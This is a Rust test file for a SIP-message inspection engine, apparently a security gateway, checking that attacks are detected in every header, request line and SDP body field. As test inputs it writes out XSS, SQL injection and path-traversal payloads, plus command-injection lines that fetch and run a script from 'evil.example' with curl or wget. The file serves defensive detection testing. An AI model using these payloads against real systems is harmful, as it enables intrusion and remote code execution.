//! Messages of SIP as phones, registrars and trunks send them: nothing is found in what is ordinary, and
//! what is none is found wherever it stands.

use std::fs;
use std::path::Path;

use gate_core::Side;
use gate_core::session::Verdict;
use gate_inspect::{Inspection, Judgement, Kind, OnMatch, Pattern, Redaction, Scratch, Settings, Subject};

fn judged(settings: Settings, message: &str) -> Judgement {
    let inspection = Inspection::compile(settings).expect("settings without faults");
    let subject = Subject { from: Side::Client, kind: Kind::Text, payload: message.as_bytes() };
    inspection.judge(subject, &mut Scratch::default())
}

fn message(from: &str, header: &str, body: &str) -> String {
    format!(
        "MESSAGE sip:bob@example.org SIP/2.0\r\nVia: SIP/2.0/WSS a.invalid;branch=z9hG4bK1\r\nFrom: {from};tag=1\r\n\
         To: <sip:bob@example.org>\r\nCall-ID: 1\r\nCSeq: 1 MESSAGE\r\n{header}Content-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

const ALICE: &str = "\"Alice\" <sip:alice@example.org>";

/// The places of what is found, and the categories.
fn found(message: &str) -> Vec<(String, &'static str)> {
    let judgement = judged(Settings::default(), message);
    let mut found: Vec<_> =
        judgement.findings.into_iter().map(|finding| (finding.place, finding.category.name())).collect();
    found.sort();
    found.dedup();
    found
}

#[test]
fn ordinary_messages_have_no_findings() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/sip");
    let mut messages = 0;
    for entry in fs::read_dir(folder).expect("the messages are kept beside the test") {
        let path = entry.expect("it can be listed").path();
        let text = fs::read_to_string(&path).expect("it is text").replace('\n', "\r\n");
        let judgement = judged(Settings::default(), &text);
        assert_eq!(judgement.findings, [], "{}", path.display());
        messages += 1;
    }
    assert!(messages > 20, "{messages} messages");
}

#[test]
fn attacks_are_found_wherever_they_stand() {
    let script = "<script>alert(1)</script>";
    let cases = [
        (message(ALICE, "", script), "|body", "xss"),
        (message(ALICE, "", "1' OR '1'='1' -- "), "|body", "sqli"),
        (message(ALICE, "", "$(curl http://evil.example/x.sh|sh)"), "|body", "command-injection"),
        (
            message(ALICE, "", r#"{"a":{"b":"\u003cscript\u003ealert(1)\u003c/script\u003e"}}"#),
            "|body|json/a/b",
            "xss",
        ),
        (message(&format!("\"{script}\" <sip:a@b>"), "", "hi"), "|header:From|name", "xss"),
        (
            message("\"$(curl http://evil.example/x|sh)\" <sip:a@b>", "", ""),
            "|header:From|name",
            "command-injection",
        ),
        (message("<sip:'%20or%201=1%20--@example.org>", "", ""), "|header:From|percent", "sqli"),
        (message(ALICE, &format!("Subject: {script}\r\n"), ""), "|header:Subject", "xss"),
        (message(ALICE, "Subject: <img src=x\r\n onerror=alert(1)>\r\n", ""), "|header:Subject", "xss"),
        (
            message(ALICE, "User-Agent: $(curl http://evil.example/x.sh|sh)\r\n", ""),
            "|header:User-Agent",
            "command-injection",
        ),
        (format!("MESSAGE sip:{script}@b SIP/2.0\r\n\r\n"), "", "xss"),
    ];
    for (message, place, category) in cases {
        let found = found(&message);
        assert!(found.contains(&(place.to_owned(), category)), "{found:?} {message}");
    }
}

/// Each is found by itself, in a place where only such a value would be read.
const PAYLOADS: [(&str, &str); 9] = [
    ("<script>alert(1)</script>", "xss"),
    ("<img src=x onerror=alert(1)>", "xss"),
    ("1' OR '1'='1' -- ", "sqli"),
    ("1 UNION SELECT user, password FROM users", "sqli"),
    ("1;wget http://evil.example/x.sh", "command-injection"),
    ("$(curl http://evil.example/x.sh|sh)", "command-injection"),
    ("../../../../etc/passwd", "path-traversal"),
    ("%2e%2e%2f%2e%2e%2fetc%2fpasswd", "path-traversal"),
    // <script>alert(1)</script>
    ("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "xss"),
];

/// Lines of a message, each with a `#` where what a client makes up stands.
const FIELDS: [&str; 33] = [
    "From: \"#\" <sip:a@b.example>;tag=1",
    "f: \"#\" <sip:a@b.example>;tag=1",
    "From: # <sip:a@b.example>;tag=1",
    "From: <sip:#@b.example>;tag=1",
    "From: <sip:a:#@b.example>;tag=1",
    "From: <sip:a@#>;tag=1",
    "From: <sip:a@b.example;user=#>;tag=1",
    "From: <sip:a@b.example;x=#>;tag=1",
    "From: <sip:a@b.example?Subject=#>;tag=1",
    "From: sip:a@b.example;tag=#",
    "To: <sip:a@b.example>;tag=#",
    "t: <sip:a@b.example>;tag=1;x=#",
    "Contact: <sip:a@b.example;transport=#>;expires=1",
    "m: <sip:a@b.example>;+sip.instance=\"<urn:uuid:#>\"",
    "Contact: <sip:a@b.example>;+sip.instance=\"#\"",
    "Via: SIP/2.0/WSS a.invalid;branch=#",
    "v: SIP/2.0/WSS a.invalid;received=#;branch=z9hG4bK1",
    "Via: SIP/2.0/WSS #;branch=z9hG4bK1",
    "Via: SIP/2.0/# a.invalid;branch=z9hG4bK1",
    "Via: SIP/2.0/WSS a.invalid;branch=z9hG4bK1,SIP/2.0/WS a.invalid;branch=#",
    "Call-ID: #",
    "i: 1@#",
    "CSeq: 1 #",
    "Max-Forwards: #",
    "Subject: #",
    "s: #",
    "User-Agent: #",
    "Reason: Q.850;cause=16;text=\"#\"",
    "X-Own: #",
    "X-Own: harmless\r\nX-Own: #\r\nX-Own: harmless",
    "Supported: outbound, path, #",
    "Content-Type: text/#",
    "Subject: one,\r\n #",
];

const STARTS: [&str; 4] =
    ["OPTIONS sip:#@b SIP/2.0", "OPTIONS sip:a@b;x=# SIP/2.0", "# sip:a@b SIP/2.0", "SIP/2.0 200 #"];

/// Lines of a body in SDP.
const LINES: [&str; 8] = [
    "o=# 1 1 IN IP4 127.0.0.1",
    "s=#",
    "i=#",
    "c=IN IP4 #",
    "a=tool:#",
    "a=#",
    "a=fmtp:96 x=1;#",
    "a=rtpmap:96 #/8000",
];

#[test]
fn attacks_are_found_in_every_field_that_a_client_makes_up() {
    let inspection = Inspection::compile(Settings::default()).expect("settings without faults");
    let mut scratch = Scratch::default();
    let mut missed = Vec::new();
    for (payload, category) in PAYLOADS {
        let via = "Via: SIP/2.0/WSS a.invalid;branch=z9hG4bK1";
        let fields = FIELDS.map(|field| {
            format!("OPTIONS sip:bob@example.org SIP/2.0\r\n{via}\r\n{field}\r\nContent-Length: 0\r\n\r\n")
        });
        let starts = STARTS.map(|start| format!("{start}\r\n{via}\r\nContent-Length: 0\r\n\r\n"));
        let bodies = LINES.map(|line| message(ALICE, "", &format!("v=0\r\n{line}\r\nt=0 0\r\n")));
        for text in fields.iter().chain(&starts).chain(&bodies) {
            let text = text.replace('#', payload);
            let subject = Subject { from: Side::Client, kind: Kind::Text, payload: text.as_bytes() };
            let findings = inspection.judge(subject, &mut scratch).findings;
            if !findings.iter().any(|finding| finding.category.name() == category) {
                missed.push(text);
            }
        }
    }
    assert!(missed.is_empty(), "{} missed: {missed:#?}", missed.len());
}

#[test]
fn what_is_found_in_a_part_is_not_told_of_the_whole_again() {
    let sent = message(ALICE, "Subject: <img src=x onerror=alert(1)>\r\n", "<img src=x onerror=alert(1)>");
    let told = [("|body".to_owned(), "xss"), ("|header:Subject".to_owned(), "xss")];
    assert_eq!(found(&sent), told);
}

#[test]
fn a_text_that_pretends_to_be_a_message_hides_nothing_between_its_parts() {
    for text in
        ["<img src=x SIP/2.0\r\n\r\nonerror=alert(1)>", "SIP/2.0 <img src=x\r\nA:\r\n onerror=alert(1)>"]
    {
        let found = found(text);
        assert!(
            !found.is_empty() && found.iter().all(|(_, category)| *category == "xss"),
            "{text} {found:?}"
        );
    }
}

#[test]
fn what_one_part_begins_and_another_ends_is_found() {
    let found = found(&message(ALICE, "Subject: <script\r\n", "src=//evil.example/x.js></script>"));
    assert_eq!(found, [(String::new(), "xss")]);
}

#[test]
fn patterns_see_what_is_ordinary() {
    for regex in ["branch=z9hG4bK1", "^MESSAGE sip:bob", r"(?s)CSeq: 1 .*hello"] {
        let patterns = vec![Pattern { id: "own".into(), regex: regex.into(), score: 5 }];
        let judgement = judged(Settings { patterns, ..Settings::default() }, &message(ALICE, "", "hello"));
        assert_eq!(judgement.findings.len(), 1, "{regex} {:?}", judgement.findings);
    }
}

#[test]
fn what_is_blackened_leaves_the_rest_of_a_message() {
    let sent = message("\"Card 4111\" <sip:a@b>", "", "pay with 4111, please");
    let settings = Settings { redactions: vec![Redaction::Pattern("4111".into())], ..Settings::default() };
    let expected = sent.replace("4111", "***");
    assert_eq!(judged(settings, &sent).verdict, Verdict::Rewrite(expected.into_bytes()));
    let sent = message(ALICE, "", "see <script>alert(1)</script>");
    let settings = Settings { on_match: OnMatch::Redact, ..Settings::default() };
    let Verdict::Rewrite(payload) = judged(settings, &sent).verdict else { panic!("it is blackened") };
    let text = String::from_utf8(payload).expect("text");
    assert!(
        text.starts_with("MESSAGE sip:bob@example.org SIP/2.0\r\n") && text.contains("\r\n\r\nsee ***"),
        "{text}"
    );
}
